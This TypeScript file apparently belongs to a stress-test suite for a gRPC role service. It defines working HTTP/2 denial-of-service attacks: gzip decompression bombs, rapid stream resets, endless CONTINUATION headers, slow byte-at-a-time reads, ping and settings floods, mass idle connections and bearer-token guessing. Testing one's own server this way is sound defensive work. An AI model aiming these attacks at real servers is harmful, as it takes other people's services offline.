import { connect } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import { gzipSync } from "node:zlib";
import { frame, grpcBody, preface } from "../support/frames";
import { message } from "../support/raw";
import { type Attack, createRole, flood, listRoles, onEachStream, peers, reflection, streams } from "./attack";
import { attacksByCalls } from "./attacks-by-calls";
import { attacksByStreams } from "./attacks-by-streams";
import { RawPeer, flags, grpcHeaders, headerBlock, types } from "./raw-peer";

const bomb = grpcBody(gzipSync(Buffer.alloc(4 * 2 ** 20)), 1);
const largest = 2 ** 20;

let next = 1;
const nextStream = () => (next = next > 2 ** 30 ? 1 : next + 2);

/** Lets the server send one byte more on each stream, again and again. */
async function takeByteByByte(peer: RawPeer, ids: readonly number[]): Promise<void> {
  const one = Buffer.from([0, 0, 0, 1]);
  const bytes = Buffer.concat([0, ...ids].map((stream) => frame(types.windowUpdate, 0, stream, one)));
  while (!peer.ended) await peer.send(bytes);
}

/** Asks for the roles of an environment on 64 streams. */
async function askForRoles(address: string, environmentId: string, window: number): Promise<RawPeer> {
  const peer = await RawPeer.open(address, { window });
  return onEachStream(peer, grpcHeaders(listRoles), grpcBody(message([1, environmentId])), { ends: true });
}

/** Attacks by callers that ask for the roles of `filled`, where a page is as large as pages get. */
export const attacksByPages: Readonly<Record<string, Attack>> = {
  "largest pages that nobody reads": peers(8, (address) => askForRoles(address, "filled", 0)),
  "largest pages on streams that are reset": peers(8, async (address) => {
    const peer = await RawPeer.open(address, { window: 0 });
    const body = grpcBody(message([1, "filled"]));
    const block = headerBlock(grpcHeaders(listRoles));
    for (let round = 0; round < 14 && !peer.ended; round += 1) {
      const some = streams(64).map((stream) => stream + 128 * round);
      const calls = some.flatMap((stream) => [
        frame(types.headers, flags.endHeaders, stream, block),
        frame(types.data, flags.endStream, stream, body),
      ]);
      await peer.send(Buffer.concat(calls));
      await sleep(30);
      await peer.send(Buffer.concat(some.map((stream) => frame(types.reset, 0, stream, Buffer.from([0, 0, 0, 8])))));
    }
    peer.destroy();
    return peer;
  }),
  "largest pages that are taken a byte at a time": peers(8, async (address) => {
    const peer = await askForRoles(address, "filled", 1);
    void takeByteByByte(peer, streams(64));
    return peer;
  }),
};

export const attacks: Readonly<Record<string, Attack>> = {
  ...attacksByStreams,
  ...attacksByCalls,
  "compressed messages that inflate a thousandfold, held open": peers(8, async (address) =>
    onEachStream(await RawPeer.open(address), grpcHeaders(createRole, { "grpc-encoding": "gzip" }), bomb),
  ),
  "compressed messages that inflate a thousandfold, complete": peers(8, async (address) =>
    onEachStream(await RawPeer.open(address), grpcHeaders(createRole, { "grpc-encoding": "gzip" }), bomb, {
      ends: true,
    }),
  ),
  "compressed messages that inflate to the limit, complete": peers(8, async (address) =>
    onEachStream(
      await RawPeer.open(address),
      grpcHeaders(createRole, { "grpc-encoding": "gzip" }),
      grpcBody(gzipSync(Buffer.alloc(largest)), 1),
      { ends: true },
    ),
  ),
  "data in frames of one byte": peers(4, async (address) => {
    const peer = await RawPeer.open(address);
    await peer.request(1, grpcHeaders(createRole));
    await peer.data(1, grpcBody(Buffer.alloc(largest - 1), 0, largest), { piece: 1 });
    return peer;
  }),
  "data in frames of one byte on streams of reflection": peers(4, async (address) =>
    onEachStream(
      await RawPeer.open(address),
      grpcHeaders(reflection),
      grpcBody(Buffer.alloc(largest - 1), 0, largest),
      {
        piece: 1,
      },
    ),
  ),
  "frames without data": flood(
    () => Buffer.concat(Array.from({ length: 500 }, () => frame(types.data, 0, 1, Buffer.alloc(0)))),
    (peer) => peer.request(1, grpcHeaders(createRole)),
  ),
  "large requests that lack their last byte": peers(8, async (address) =>
    onEachStream(await RawPeer.open(address), grpcHeaders(createRole), grpcBody(Buffer.alloc(largest - 1), 0, largest)),
  ),
  "requests without a body": peers(100, async (address) => {
    const peer = await RawPeer.open(address);
    for (const stream of streams(64)) await peer.request(stream, grpcHeaders(createRole));
    return peer;
  }),
  "an unknown method with a body that never ends": peers(8, async (address) => {
    const peer = await RawPeer.open(address);
    await peer.request(1, grpcHeaders("/orgroles.v1.RoleService/Nothing"));
    await peer.data(1, grpcBody(Buffer.alloc(8 * largest), 0, 9 * largest));
    return peer;
  }),
  "reflection without reading": peers(4, async (address) => {
    const peer = await RawPeer.open(address, { window: 0 });
    const question = grpcBody(message([3, "orgroles/v1/role_service.proto"]));
    return onEachStream(peer, grpcHeaders(reflection), Buffer.concat(Array.from({ length: 8000 }, () => question)));
  }),
  "responses that nobody reads": peers(10, async (address) => {
    const peer = await RawPeer.open(address, { window: 0 });
    return onEachStream(peer, grpcHeaders(listRoles), grpcBody(message([1, "alpha"])), { ends: true });
  }),
  "peers that neither read nor acknowledge": peers(10, async (address) => {
    const peer = await RawPeer.open(address, { reads: false });
    return onEachStream(peer, grpcHeaders(listRoles), grpcBody(message([1, "alpha"])), { ends: true });
  }),
  "small pages that are taken a byte at a time": peers(8, async (address) => {
    const peer = await askForRoles(address, "alpha", 1);
    void takeByteByByte(peer, streams(64));
    return peer;
  }),
  "pings, settings and priorities beside streams that stay open": peers(8, async (address) => {
    const peer = await RawPeer.open(address);
    for (const stream of streams(64)) await peer.request(stream, grpcHeaders(createRole));
    const priority = Buffer.from([0, 0, 0, 0, 15]);
    const bytes = Buffer.concat(
      streams(64).flatMap((stream) => [
        frame(types.priority, 0, stream, priority),
        frame(types.ping, 0, 0, Buffer.alloc(8)),
        frame(types.settings, 0, 0, Buffer.alloc(0)),
      ]),
    );
    void (async () => {
      while (!peer.ended) await peer.send(bytes);
    })();
    return peer;
  }),
  "watches of health without end": peers(100, async (address) =>
    onEachStream(await RawPeer.open(address), grpcHeaders("/grpc.health.v1.Health/Watch"), grpcBody(Buffer.alloc(0)), {
      ends: true,
    }),
  ),
  "tokens that nobody knows": async (address, deadline) => {
    const body = grpcBody(message([1, "alpha"]));
    const caller = async (index: number) => {
      while (Date.now() < deadline) {
        const peer = await RawPeer.open(address);
        for (let stream = 1; !peer.ended && stream < 4000 && Date.now() < deadline; stream += 2) {
          await peer.request(stream, grpcHeaders(listRoles, { authorization: `Bearer guess-${index}-${stream}` }));
          await peer.data(stream, body, { ends: true });
        }
        peer.destroy();
      }
    };
    await Promise.all(Array.from({ length: 10 }, (_, index) => caller(index)));
  },
  "streams that are reset at once": flood(
    () => {
      const block = headerBlock(grpcHeaders(listRoles));
      return Buffer.concat(
        Array.from({ length: 100 }, nextStream).flatMap((stream) => [
          frame(types.headers, flags.endHeaders, stream, block),
          frame(types.reset, 0, stream, Buffer.from([0, 0, 0, 8])),
        ]),
      );
    },
    async () => void (next = 1),
  ),
  "pings, settings and window updates": flood(() =>
    Buffer.concat(
      Array.from({ length: 300 }, () => [
        frame(types.ping, 0, 0, Buffer.alloc(8)),
        frame(types.settings, 0, 0, Buffer.alloc(0)),
      ]).flat(),
    ),
  ),
  "pings of two hundred connections": async (address, deadline, over) => {
    const pings = Buffer.concat(Array.from({ length: 3500 }, () => frame(types.ping, 0, 0, Buffer.alloc(8))));
    const one = flood(() => pings);
    await Promise.all(Array.from({ length: 200 }, () => one(address, deadline, over)));
  },
  "headers that never end": flood(
    () => frame(types.continuation, 0, 1, headerBlock({ "x-more": "y".repeat(4000) })),
    (peer) => peer.send(frame(types.headers, 0, 1, headerBlock(grpcHeaders(listRoles)))),
  ),
  "thousands of connections": async (address, deadline, over) => {
    const [host = "", port] = address.split(":");
    const sockets = Array.from({ length: 3000 }, (_, index) => {
      const socket = connect(Number(port), host).on("error", () => undefined);
      if (index % 2) socket.write(preface);
      return socket;
    });
    await sleep(deadline - Date.now());
    await over;
    for (const socket of sockets) socket.destroy();
  },
};
